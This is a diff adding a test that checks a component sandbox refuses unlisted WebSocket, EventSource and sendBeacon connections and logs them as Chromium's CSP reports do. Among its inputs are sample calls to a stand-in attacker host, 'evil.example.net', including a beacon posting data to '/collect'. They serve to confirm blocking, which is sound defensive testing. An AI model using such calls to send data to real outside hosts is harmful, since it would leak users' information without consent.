@@ -173,4 +173,18 @@ describe('the bridge verdicts, in the harness and in the preview with the runtim
     expect(view.blocked[0]!.fix).toBe('Add "https://evil.example.net" to capabilities.network in manifest.json: "network": ["https://api.example.com","https://evil.example.net"]');
     cleanup();
   });
+
+  it('agree on WebSocket, EventSource and sendBeacon: each refused request is logged in the words the preview gives the URL Chromium reports', () => {
+    getRegistry().registrations.push({ kind: 'component', id: CARD, mount: () => {} });
+    const view = render(CARD, { manifest, fetch: async () => new Response(null) });
+    new WebSocket('https://api.example.com/live'); // Chromium connects (and reports) wss://api.example.com/live: https does not cover wss
+    new WebSocket('ws://evil.example.net/s');
+    new EventSource('https://evil.example.net/stream');
+    navigator.sendBeacon('https://evil.example.net/collect', 'x');
+    navigator.sendBeacon('https://api.example.com/collect', 'x');
+    const reported = ['wss://api.example.com/live', 'ws://evil.example.net/s', 'https://evil.example.net/stream', 'https://evil.example.net/collect'];
+    const logged = reported.map((url) => parseCspReport(JSON.stringify({ 'csp-report': { 'effective-directive': 'connect-src', 'blocked-uri': url } }), 'component:' + CARD, manifest.capabilities.network)!);
+    expect(view.blocked.map(({ url, directive, origin, fix }) => ({ url, directive, origin, fix }))).toEqual(logged.map(({ blocked, directive, origin, fix }) => ({ url: blocked, directive, origin, fix })));
+    cleanup();
+  });
 });
